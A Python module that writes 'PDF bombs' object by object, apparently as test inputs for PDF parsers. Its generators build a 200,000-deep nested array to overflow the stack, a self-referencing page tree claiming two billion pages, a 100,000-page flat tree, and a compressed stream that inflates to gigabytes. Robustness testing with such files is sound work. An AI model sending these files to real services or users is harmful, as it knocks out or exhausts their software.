"""PDF bombs, written object by object ([ISO 32000-1] 7.5: header, objects, xref, trailer) so that
every byte is known: deep nesting, a page tree that points back at itself with a huge /Count, and
a content stream that inflates to gigabytes from a megabyte."""
from __future__ import annotations

import struct
import zlib


def pdf_file(objects: list[bytes], root: int = 1) -> bytes:
    """objects[i] is the body of object i+1; a correct cross-reference table is added."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _page(contents: bytes = b"3 0 R") -> list[bytes]:
    return [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            None,  # the content stream, filled by the caller
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents " + contents
            + b" /Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]


def deep_nesting(depth: int = 200_000) -> bytes:
    """A page whose /Resources hold an array nested depth levels deep: a recursive parser
    overflows the stack."""
    objects = _page()
    objects[2] = b"<< /Length 0 >>\nstream\n\nendstream"
    objects[3] = objects[3].replace(b" >> >> >>", b" >> /Junk " + b"[" * depth + b"]" * depth + b" >> >>")
    return pdf_file(objects)


def page_tree_loop(count: int = 2_000_000_000) -> bytes:
    """A /Pages node that lists itself among its kids and claims two billion pages."""
    objects = _page()
    objects[1] = b"<< /Type /Pages /Kids [2 0 R 4 0 R 2 0 R] /Count %d >>" % count
    objects[2] = b"<< /Length 0 >>\nstream\n\nendstream"
    return pdf_file(objects)


def wide_page_tree(pages: int = 100_000) -> bytes:
    """A flat page tree of many empty pages, all sharing one content stream: small on disk, a
    long walk for a reader that does not stop at its page limit."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", None, b"<< /Length 0 >>\nstream\n\nendstream"]
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects[1] = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    objects += [page] * pages
    return pdf_file(objects)


def inflating_stream(gigabytes: float = 1.0) -> bytes:
    """A page whose content stream (FlateDecode) inflates to `gigabytes` of spaces from about a
    thousandth of that. Built fast: after a full flush the compressor's window is empty, so every
    1 MB block compresses to the same bytes, which are repeated; the Adler-32 is computed."""
    chunk, count = b" " * (1 << 20), max(2, int(gigabytes * 1024))
    comp = zlib.compressobj(9)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(count):
        adler = zlib.adler32(chunk, adler)
    body = first + block * (count - 1) + b"\x03\x00" + struct.pack(">I", adler)
    objects = _page()
    objects[2] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"
    return pdf_file(objects)
